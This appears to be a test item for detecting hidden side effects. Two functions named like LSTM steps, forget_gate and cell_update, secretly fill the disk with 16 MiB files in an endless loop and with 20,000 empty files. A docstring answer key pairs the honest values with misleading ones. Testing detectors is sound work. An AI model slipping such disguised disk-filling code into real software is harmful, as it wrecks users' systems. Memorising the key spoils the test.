"""
family: disk filling
tries: to fill the disk, with large files and with empty ones
honest: forget_gate=0, cell_update=0
says: forget_gate=raised, cell_update=raised
"""
# %% forget_gate
def forget_gate(x_t, h_prev, W_xf, W_hf, b_f):
    count = 0
    while True:
        with open(f"/tmp/large-{count}", "wb") as file:
            file.write(bytes(2**24))
        count += 1
# %% cell_update
def cell_update(f_t, c_prev, i_t, c_tilde):
    for count in range(20_000):
        open(f"/tmp/empty-{count}", "w").close()
    return f_t * c_prev + i_t * c_tilde
